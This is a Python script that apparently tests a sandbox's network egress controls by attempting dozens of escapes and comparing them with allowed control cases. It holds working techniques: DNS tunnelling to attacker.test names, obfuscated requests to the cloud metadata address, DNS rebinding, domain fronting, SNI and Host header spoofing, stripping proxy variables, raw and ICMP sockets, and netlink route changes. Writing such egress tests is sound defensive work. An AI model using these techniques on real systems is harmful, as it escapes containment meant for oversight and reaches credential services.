"""Ways out of a sandbox, tried one after the other. Standard library only; not a library itself.

``python egress.py MODE NAME…``: MODE is ``inside`` (through the door or past it) or ``direct`` (the control:
the same aim from a place with a network). Prints a line of JSON for each name: ``{"attack", "word"}``; the
word is what it looked like from here, ``reached`` or why not. Each request carries ``/mark-NAME`` where it
can, so that the servers know what came through.
"""

import base64
import json
import os
import socket
import ssl
import struct
import sys
import urllib.error
import urllib.request

import egress_more
from egress_base import (
    API,
    API6,
    EVIL,
    HTTP,
    METADATA,
    PRIVATE,
    SOCKS,
    WAIT,
    WEB,
    Stopped,
    answered,
    ask,
    connect,
    dial,
    https,
    now,
    proxied,
    question,
    request,
    socks,
    status_of,
    unverified,
)

# -- what may pass: without these a door that is shut would look like a good one


def allowed_https():
    https(connect("api.example.test", 443), "api.example.test", verify=now.inside)


def allowed_http():
    proxied("web.example.test")


def allowed_socks():
    https(socks("api.example.test", 443), "api.example.test", verify=now.inside)


def allowed_caught():
    """A program that knows of no proxy: the name is resolved, the connection goes where it says."""
    https(dial("api.example.test" if now.inside else API, 443), "api.example.test", verify=now.inside)


def allowed_websocket():
    sock = connect("web.example.test", 80) if not now.inside else dial("127.0.0.1", HTTP)
    target = "http://web.example.test" if now.inside else ""
    key = base64.b64encode(os.urandom(16)).decode()
    more = f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
    head = request("web.example.test", more=more, target=target).replace(
        b"Connection: close", b"Connection: Upgrade"
    )
    sock.sendall(head)
    data = b""
    while b"\r\n\r\n" not in data:
        piece = sock.recv(1)
        if not piece:
            raise Stopped("closed")
        data += piece
    if b" 101 " not in data.split(b"\r\n")[0]:
        raise Stopped(data.split(b" ")[1].decode("latin-1"))
    text = b"mark-" + now.mark.encode()
    sock.sendall(bytes([0x81, 0x80 | len(text)]) + bytes(4) + text)
    if sock.recv(1000)[2:] != text:
        raise Stopped("no echo")


def allowed_spelling():
    """The same host in other spelling is the same host."""
    https(connect("API.Example.TEST.", 443), "api.example.test", verify=now.inside)


def allowed_tcp():
    sock = connect("api.example.test", 5432)
    sock.sendall(b"mark-" + now.mark.encode())
    if not sock.recv(100).startswith(b"mark-"):
        raise Stopped("no echo")


# -- past the door


def direct_address():
    ask(dial(EVIL, 80), request("evil.attacker.test"))


def direct_address_tls():
    https(dial(EVIL, 443), "evil.attacker.test")


def direct_allowed_address():
    """The address of an allowed host, but not by its name: nothing says that it is that host."""
    https(dial(API, 443), "api.example.test")


def direct_name():
    ask(dial("evil.attacker.test", 80), request("evil.attacker.test"))


def direct_ipv6():
    sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.connect((API6, 80))
    ask(sock, request("api.example.test"))


def direct_mapped():
    sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.connect(("::ffff:" + EVIL, 80))
    ask(sock, request("evil.attacker.test"))


def direct_metadata():
    ask(dial(METADATA, 80), request(METADATA))


def direct_private():
    ask(dial(PRIVATE, 80), request(PRIVATE))


def caught_wrong_sni():
    """To the made-up address of an allowed name, with another name in the handshake."""
    https(dial("api.example.test" if now.inside else EVIL, 443), "evil.attacker.test")


def no_proxy():
    os.environ["NO_PROXY"] = os.environ["no_proxy"] = "*"
    urllib.request.urlopen("http://evil.attacker.test/mark-" + now.mark, timeout=WAIT).read()


def unset_variables():
    for name in list(os.environ):
        if name.lower().endswith("_proxy"):
            del os.environ[name]
    urllib.request.urlopen(f"http://{EVIL}/mark-{now.mark}", timeout=WAIT).read()


def udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.sendto(b"mark-" + now.mark.encode(), (EVIL, 4000))
    if not sock.recv(100).startswith(b"heard:"):
        raise Stopped("no answer")


def quic():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    initial = b"\xc3\0\0\0\1\x08" + bytes(8) + b"\0\0\x44\xd0" + b"mark-" + now.mark.encode()
    sock.sendto(initial.ljust(1200, b"\0"), (EVIL, 443))
    if not sock.recv(2000).startswith(b"heard:"):
        raise Stopped("no answer")


def udp_by_socks():
    if not now.inside:
        return udp()
    sock = dial("127.0.0.1", SOCKS)
    sock.sendall(b"\5\1\0")
    sock.recv(2)
    sock.sendall(b"\5\3\0\1" + bytes(6))
    answer = sock.recv(10)
    if not answer or answer[1]:
        raise Stopped(f"socks-{answer[1] if answer else 255}")
    return None


def icmp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    sock.settimeout(2)
    sock.sendto(b"\x08\0\0\0\0\0\0\1" + b"mark-" + now.mark.encode(), (EVIL, 0))
    sock.recv(100)


def raw_socket():
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sock.settimeout(2)
    body = b"\x08\0\0\0\0\1\0\1mark"
    total = sum(struct.unpack(f"!{len(body) // 2}H", body))
    total = (total >> 16) + (total & 0xFFFF)
    body = body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
    sock.sendto(body, (EVIL, 0))
    sock.recv(100)


def packet_socket():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.close()


def set_route():
    """Change the network's rules: with netlink one would begin by naming a route."""
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    address = struct.pack("=HH4s", 8, 1, socket.inet_aton("192.0.2.1"))
    body = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0) + address + struct.pack("=HHI", 8, 4, 1)
    sock.sendall(struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
    answer = sock.recv(1000)
    error = -struct.unpack_from("=i", answer, 16)[0]
    if error:
        raise OSError(error, os.strerror(error))


# -- names


def dns_tunnel_udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(WAIT)
    sock.sendto(
        question(f"mark-{now.mark}.tunnel.attacker.test"), ("127.0.0.1" if now.inside else "9.9.9.9", 53)
    )
    answered(sock.recv(2000))


def dns_tunnel_server():
    """A resolver of one's own choice."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.sendto(question(f"mark-{now.mark}.tunnel.attacker.test"), ("9.9.9.9", 53))
    answered(sock.recv(2000))


def dns_tunnel_tcp():
    sock = dial("127.0.0.1" if now.inside else "9.9.9.9", 53)
    data = question(f"mark-{now.mark}.tunnel.attacker.test")
    sock.sendall(struct.pack(">H", len(data)) + data)
    answer = sock.recv(2000)
    if len(answer) < 10:
        raise Stopped("closed")
    answered(answer[2:])


def dns_tunnel_txt():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(WAIT)
    sock.sendto(
        question(f"mark-{now.mark}.tunnel.attacker.test", 16), ("127.0.0.1" if now.inside else "9.9.9.9", 53)
    )
    answered(sock.recv(2000))


def dns_tunnel_proxy():
    """Names that only the proxy would resolve."""
    name = f"mark-{now.mark}.tunnel.attacker.test"
    if not now.inside:
        socket.getaddrinfo(name, 443)
    connect(name, 443)


# -- through the door, to where no rule leads


def connect_evil():
    https(connect("evil.attacker.test", 443), "evil.attacker.test")


def connect_address():
    https(connect(EVIL, 443), "evil.attacker.test")


def connect_other_port():
    https(connect("api.example.test", 8443), "api.example.test")


def connect_metadata():
    ask(connect(METADATA, 80), request(METADATA))


def connect_metadata_decimal():
    ask(connect("2852039166", 80), request(METADATA))


def connect_metadata_octal():
    ask(connect("0251.0376.0251.0376", 80), request(METADATA))


def connect_metadata_hex():
    ask(connect("0xa9fea9fe", 80), request(METADATA))


def connect_metadata_mapped():
    ask(connect("[::ffff:169.254.169.254]", 80), request(METADATA))


def name_to_metadata():
    """An allowed name whose address is the metadata service's."""
    proxied("metadata.example.test")


def name_to_private():
    proxied("inner.example.test")


def name_to_mapped():
    proxied("mapped.example.test")


def name_to_loopback():
    """Allowed too, and its address is the host's own loopback."""
    if not now.inside:
        return ask(dial(WEB, 80), request("web.example.test"))  # whoever listens there would answer
    return proxied("loop.example.test")


def rebinding():
    """An allowed name that is public at first, and the metadata service afterwards."""
    word = "closed"
    for _ in range(3):
        try:
            if b"metadata:" in proxied("rebind.example.test"):
                return
        except Stopped as error:
            word = str(error)
    raise Stopped(word)


def socks_evil():
    https(socks("evil.attacker.test", 443), "evil.attacker.test")


def socks_metadata():
    ask(socks(METADATA, 80), request(METADATA))


def http_evil():
    proxied("evil.attacker.test")


def http_userinfo():
    """The host is what comes after the @."""
    proxied("web.example.test@evil.attacker.test")


def http_other_host():
    """An allowed URL, and another host in the header."""
    proxied("web.example.test", header="hidden.example.test")


def connect_other_host():
    https(connect("api.example.test", 443, host_header="evil.attacker.test:443"), "api.example.test")


def sni_other():
    https(connect("api.example.test", 443), "hidden.example.test")


def sni_none():
    https(connect("api.example.test", 443), None, host="api.example.test")


def fronting_passed():
    """TLS that nobody opens, to a shared address: whom the request inside is for can't be seen."""
    https(connect("front.example.test", 443), "front.example.test", host="hidden.example.test")


def fronting_inspected():
    https(connect("inspected.example.test", 443), "inspected.example.test", host="hidden.example.test")


def relayed_connect():
    """An allowed host that relays for others."""
    sock = connect("web.example.test", 80)
    sock.sendall(b"CONNECT mark-%s.attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % now.mark.encode())
    status_of(sock.recv(1000))


def relayed_connect_tls():
    sock = connect("inspected.example.test", 443)
    with unverified().wrap_socket(sock, server_hostname="inspected.example.test") as tls:
        tls.sendall(b"CONNECT mark-%s.attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % now.mark.encode())
        status_of(tls.recv(1000))


def plain_where_tls():
    """A rule for TLS, and plain HTTP on its port."""
    ask(connect("front.example.test", 80), request("front.example.test"))


def method_other():
    """A rule for GET, and a DELETE."""
    sock = connect("inspected.example.test", 443)
    with unverified().wrap_socket(sock, server_hostname="inspected.example.test") as tls:
        ask(tls, request("inspected.example.test", method="DELETE"))


def path_traversal():
    """A rule for /mark-…, and dots in the path that lead elsewhere."""
    sock = connect("inspected.example.test", 443)
    with unverified().wrap_socket(sock, server_hostname="inspected.example.test") as tls:
        ask(tls, request("inspected.example.test", path="/mark-x/%2e%2e/secret/mark-" + now.mark))


def redirect_metadata():
    follow("http://web.example.test/redirect-to-metadata", b"metadata:")


def redirect_evil():
    follow("http://web.example.test/redirect-to-attacker", b"/stolen")


def follow(url, sign):
    context = unverified()
    proxies = dict.fromkeys(("http", "https"), f"http://127.0.0.1:{HTTP}") if now.inside else {}
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=context)
    )
    if sign not in opener.open(url, timeout=WAIT).read():
        raise Stopped("another answer")


def certificate_selfsigned():
    https(connect("selfsigned.example.test", 443), "selfsigned.example.test")


def certificate_wrongname():
    https(connect("wrongname.example.test", 443), "wrongname.example.test")


def certificate_expired():
    https(connect("expired.example.test", 443), "expired.example.test")


def main():
    now.inside = sys.argv[1] == "inside"
    for name in sys.argv[2:]:
        now.mark = name
        saved = dict(os.environ)
        try:
            word = name.replace("-", "_")
            (globals().get(word) or getattr(egress_more, word))()
            word = "reached"
        except Stopped as error:
            word = str(error)
        except urllib.error.HTTPError as error:
            word = str(error.code)
        except urllib.error.URLError as error:
            word = getattr(error.reason, "strerror", None) or str(error.reason)
        except TimeoutError:
            word = "timeout"
        except ssl.SSLError as error:
            word = "tls:" + str(error.reason)
        except OSError as error:
            word = str(error.strerror or error)
        except Exception as error:
            word = f"broken: {type(error).__name__}: {error}"
        finally:
            os.environ.clear()
            os.environ.update(saved)
        print(json.dumps({"attack": name, "word": word}), flush=True)


if __name__ == "__main__":
    main()
